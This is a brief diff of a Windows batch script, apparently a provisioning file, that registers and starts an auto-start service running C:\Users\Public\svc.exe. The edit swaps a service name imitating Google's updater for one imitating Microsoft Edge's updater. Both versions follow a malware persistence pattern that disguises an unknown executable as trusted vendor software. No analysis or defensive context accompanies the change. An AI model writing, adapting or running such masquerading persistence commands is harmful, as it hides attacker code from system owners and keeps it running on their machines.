@@ -1,3 +1,3 @@
-REM provision 9191 v4
-sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-sc start GoogleUpdateTaskMachine
+REM config 5701 v4
+sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+sc start MicrosoftEdgeUpdateCore
